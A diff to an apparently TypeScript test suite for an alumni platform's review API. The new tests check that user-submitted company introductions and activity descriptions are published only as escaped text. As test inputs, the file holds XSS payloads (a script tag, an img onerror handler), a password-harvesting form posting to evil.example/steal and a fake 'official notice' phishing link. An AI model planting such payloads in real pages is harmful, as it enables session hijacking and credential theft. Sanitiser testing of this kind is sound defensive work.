@@ -50,6 +50,15 @@ const submittedCompany = async (user: number, name = '杭州测试科技有限�
       [user, name],
     )
   ).id;
+const submittedProposal = async (user: number, title: string, description: string) =>
+  (
+    await one<{ id: number }>(
+      `insert into activity_proposal (user_id, title, activity_type, start_time, end_time, place, capacity, signup_deadline, description)
+       values ($1, $2, 'sports', now() + interval '30 days', now() + interval '30 days 3 hours', '体育馆', 20,
+               now() + interval '20 days', $3) returning id`,
+      [user, title, description],
+    )
+  ).id;
 const proofRequest = async (user: number, delivery: 'post' | 'pickup' = 'post') =>
   (
     await one<{ id: number }>(
@@ -329,6 +338,39 @@ describe('decisions', () => {
     );
   });
 
+  it('an approved application’s 企业简介 reaches the public company API only as escaped text, its summary without tags', async () => {
+    const lines = [
+      '我们是一家做工业软件的公司，服务长三角制造企业。',
+      '<script>window.__xss=1</script><img src=x onerror="window.__xss=2">',
+      '<form action="https://evil.example/steal"><input name="password"><button>提交</button></form>',
+      '<a href="https://evil.example/login">【官方通知】校友账号即将停用，请点此重新验证</a>',
+    ];
+    const company = await submittedCompany(await userId('张明'), '杭州纯文本科技有限公司');
+    await sql('update company_application set introduction = $2 where id = $1', [company, lines.join('\n')]);
+    const approved = await reviewer('POST', `/api/admin/review/companies/${company}/decision`, { action: 'approve' });
+    const published = await call(staff.editor, 'POST', `/api/admin/content/companies/${approved.body.data.linkId}/publish`, {});
+    expect(published.status).toBe(200);
+
+    const shown = (await call(suite.tokens.zhang, 'GET', `/api/alumcompany/${approved.body.data.linkId}`)).body.data;
+    // As the sanitiser writes text: quotes need no escaping outside attributes.
+    const escape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
+    expect(shown.introduction).toBe(lines.map((line) => `<p>${escape(line)}</p>`).join(''));
+    expect(shown.introduction).not.toMatch(/<(?!\/?p>)/);
+    expect(shown.summary).toBe(
+      '我们是一家做工业软件的公司，服务长三角制造企业。 window.__xss=1 提交 【官方通知】校友账号即将停用，请点此重新验证',
+    );
+  });
+
+  it('an accepted proposal’s description becomes escaped paragraphs and a summary without tags', async () => {
+    const proposal = await submittedProposal(await userId('张明'), '纯文本测试活动', '第一段<script>alert(1)</script>\n\n第二段');
+    const accepted = await reviewer('POST', `/api/admin/review/proposals/${proposal}/decision`, { action: 'approve' });
+    const activity = await one('select content, summary from activity where id = $1', [accepted.body.data.linkId]);
+    expect(activity).toEqual({
+      content: '<p>第一段&lt;script&gt;alert(1)&lt;/script&gt;</p><p>第二段</p>',
+      summary: '第一段 alert(1) 第二段',
+    });
+  });
+
   it.each([
     [{}, 'action'],
     [{ action: 'explode' }, 'action'],
@@ -365,14 +407,7 @@ describe('each decision is one transaction', () => {
       const join = await pendingJoin(await orgId('深圳校友会'), await pendingAlumnus());
       const company = await submittedCompany(zhang, `原子性测试公司${table}`);
       const proof = await proofRequest(zhang);
-      const proposal = (
-        await one<{ id: number }>(
-          `insert into activity_proposal (user_id, title, activity_type, start_time, end_time, place, capacity, signup_deadline, description)
-         values ($1, '原子性测试活动', 'sports', now() + interval '30 days', now() + interval '30 days 3 hours', '体育馆', 20,
-                 now() + interval '20 days', '一场测试用的活动。') returning id`,
-          [zhang],
-        )
-      ).id;
+      const proposal = await submittedProposal(zhang, '原子性测试活动', '一场测试用的活动。');
       const statusOf = () =>
         one(
           `select (select card_status from app_user where id = $1) as card, (select card_no from app_user where id = $1) as "cardNo",
